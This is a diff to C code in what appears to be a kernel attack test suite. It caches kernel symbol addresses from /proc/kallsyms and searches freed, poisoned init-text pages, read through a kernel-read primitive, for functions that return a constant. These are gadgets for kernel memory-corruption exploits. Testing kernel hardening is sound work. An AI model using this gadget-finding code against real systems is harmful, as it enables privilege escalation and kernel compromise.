@@ -15,29 +15,38 @@ static int poisoned(const u8 *page)
 	return 1;
 }
 
+static u64 functions[65536];
+static unsigned count;
+
+// The symbols of the init text.
+static void find_functions(u64 start, u64 end)
+{
+	FILE *file = fopen("/proc/kallsyms", "r");
+	unsigned long long address;
+	char line[512];
+
+	while (file && fgets(line, sizeof(line), file))
+		if (sscanf(line, "%llx", &address) == 1 && address - start < end - start && count < 65536)
+			functions[count++] = address;
+	if (file)
+		fclose(file);
+}
+
 // Address of a function in this page that does nothing but return a constant, which need be none of its callers'.
 static u64 constant(u64 page, const u8 *bytes, u8 *value)
 {
-	FILE *file = fopen("/proc/kallsyms", "r");
-	char line[512], name[256], kind;
-	unsigned long long address;
-	u64 found = 0;
+	for (unsigned i = 0; i < count; i++) {
+		const u8 *code = bytes + (functions[i] - page);
 
-	while (!found && file && fgets(line, sizeof(line), file)) {
-		if (sscanf(line, "%llx %c %255s", &address, &kind, name) != 3 || address - page >= PAGE - 32)
+		if (functions[i] - page >= PAGE - 32)
 			continue;
-		const u8 *code = bytes + (address - page);
-
 		if (!memcmp(code, "\xf3\x0f\x1e\xfa", 4))
 			code += 4;
-		if (!memcmp(code, "\xb8\x01\0\0\0\xc3", 6))
-			found = address, *value = 1;
-		if (!memcmp(code, "\x31\xc0\xc3", 3))
-			found = address, *value = 0;
+		*value = !memcmp(code, "\xb8\x01\0\0\0\xc3", 6);
+		if (*value || !memcmp(code, "\x31\xc0\xc3", 3))
+			return functions[i];
 	}
-	if (file)
-		fclose(file);
-	return found;
+	return 0;
 }
 
 ATTACK("init-text-original")
@@ -49,6 +58,7 @@ ATTACK("init-text-original")
 
 	if (file < 0 || pread(file, &base, 8, 0) != 8)
 		failed("no bytes of the init text");
+	find_functions(base, base + lseek(file, 0, SEEK_END));
 	// A page that nobody has taken since it was freed and poisoned, with a function that returns a constant.
 	for (u64 offset = 0; pread(file, original, PAGE, 8 + offset) == PAGE; offset += PAGE) {
 		kread(base + offset, page, PAGE);
